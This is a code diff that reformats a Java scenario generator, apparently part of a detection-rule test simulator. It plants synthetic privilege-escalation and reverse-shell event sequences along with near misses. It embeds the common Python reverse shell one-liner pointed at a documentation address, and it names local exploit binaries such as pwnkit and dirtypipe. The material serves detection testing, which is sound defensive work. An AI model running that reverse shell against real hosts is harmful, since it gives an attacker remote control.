@@ -2,7 +2,6 @@ package dev.streamrules.tools.sim;
 
 import dev.streamrules.tools.sim.HostState.Resident;
 import dev.streamrules.tools.sim.PlantedSequence.Kind;
-
 import java.util.List;
 
 /**
@@ -14,7 +13,8 @@ import java.util.List;
 final class SequenceScenarios {
 
     private static final List<Kind> ESCALATION_NEAR_MISSES = List.of(Kind.OUTSIDE_MAXSPAN, Kind.WRONG_KEY);
-    private static final List<Kind> SHELL_NEAR_MISSES = List.of(Kind.OUTSIDE_MAXSPAN, Kind.WRONG_KEY, Kind.BROKEN_BY_UNTIL);
+    private static final List<Kind> SHELL_NEAR_MISSES =
+            List.of(Kind.OUTSIDE_MAXSPAN, Kind.WRONG_KEY, Kind.BROKEN_BY_UNTIL);
     /** The common Python reverse shell one-liner, connecting back to a documentation address. */
     private static final String REVERSE_SHELL = "import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
             + "socket.SOCK_STREAM);s.connect((\"203.0.113.%d\",%d));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
@@ -46,7 +46,10 @@ final class SequenceScenarios {
             case ATTACK, OUTSIDE_MAXSPAN -> {
                 String folder = dice.pick("/tmp", "/var/tmp", "/dev/shm", user.home() + "/.cache");
                 String name = dice.pick("pwnkit", "cve-2021-4034", "exp", "dirtypipe", "lpe", ".x");
-                ProcRef exploit = s.fork(login.shell()).ownGroup().workingDirectory(folder).child();
+                ProcRef exploit = s.fork(login.shell())
+                        .ownGroup()
+                        .workingDirectory(folder)
+                        .child();
                 s.marked(plant.member()).exec(exploit, ProcessImage.of(folder + "/" + name, "./" + name));
                 long gap = kind == Kind.ATTACK
                         ? dice.between(20, 900)
@@ -57,14 +60,20 @@ final class SequenceScenarios {
             }
             case WRONG_KEY -> {
                 ProcRef tool = s.fork(login.shell()).ownGroup().child();
-                s.marked(plant.member()).exec(tool, ProcessImage.of(user.home() + "/.local/bin/deploy", "deploy", "--dry-run"));
+                s.marked(plant.member())
+                        .exec(tool, ProcessImage.of(user.home() + "/.local/bin/deploy", "deploy", "--dry-run"));
                 s.after(dice.between(10, 200)).end(tool);
-                ProcRef sudo = s.after(dice.between(10, 150)).fork(login.shell()).ownGroup().child();
-                s.after(dice.between(1, 5)).exec(sudo, ProcessImage.of("/usr/bin/sudo", "sudo", "systemctl", "restart", "nginx"));
+                ProcRef sudo = s.after(dice.between(10, 150))
+                        .fork(login.shell())
+                        .ownGroup()
+                        .child();
+                s.after(dice.between(1, 5))
+                        .exec(sudo, ProcessImage.of("/usr/bin/sudo", "sudo", "systemctl", "restart", "nginx"));
                 s.after(dice.between(5, 80)).marked(plant.last()).uidChange(sudo, p.root);
                 s.end(sudo);
             }
-            default -> throw new IllegalArgumentException("no " + kind + " near miss for the privilege escalation rule");
+            default ->
+                throw new IllegalArgumentException("no " + kind + " near miss for the privilege escalation rule");
         }
         s.end(login.shell());
         s.end(login.session());
@@ -89,7 +98,10 @@ final class SequenceScenarios {
             parent = login.shell();
         }
         SequencePlant plant = new SequencePlant(SequenceRules.PYTHON_INTERACTIVE_SHELL, kind);
-        ProcessImage python = ProcessImage.of("/usr/bin/python3", "python3", "-c",
+        ProcessImage python = ProcessImage.of(
+                "/usr/bin/python3",
+                "python3",
+                "-c",
                 String.format(REVERSE_SHELL, dice.between(2, 254), dice.pick(4444, 9001, 1337, 8443)));
         ProcessImage shell = ProcessImage.of(p.os.sh().executable(), "/bin/sh", "-i");
         ProcRef py = s.fork(parent).child();
@@ -127,7 +139,9 @@ final class SequenceScenarios {
     private static Login sshLogin(ProcessScript s, HostState host, UserAccount user) {
         ProcRef session = s.fork(host.resident(Resident.SSHD)).child();
         ProcRef shell = s.fork(session).leadsItsSession().child();
-        s.exec(shell, user.shell().loginImage()).as(user).workingDirectory(user.home())
+        s.exec(shell, user.shell().loginImage())
+                .as(user)
+                .workingDirectory(user.home())
                 .entryLeader("sshd", true, host.nextPseudoTerminal());
         return new Login(session, shell);
     }
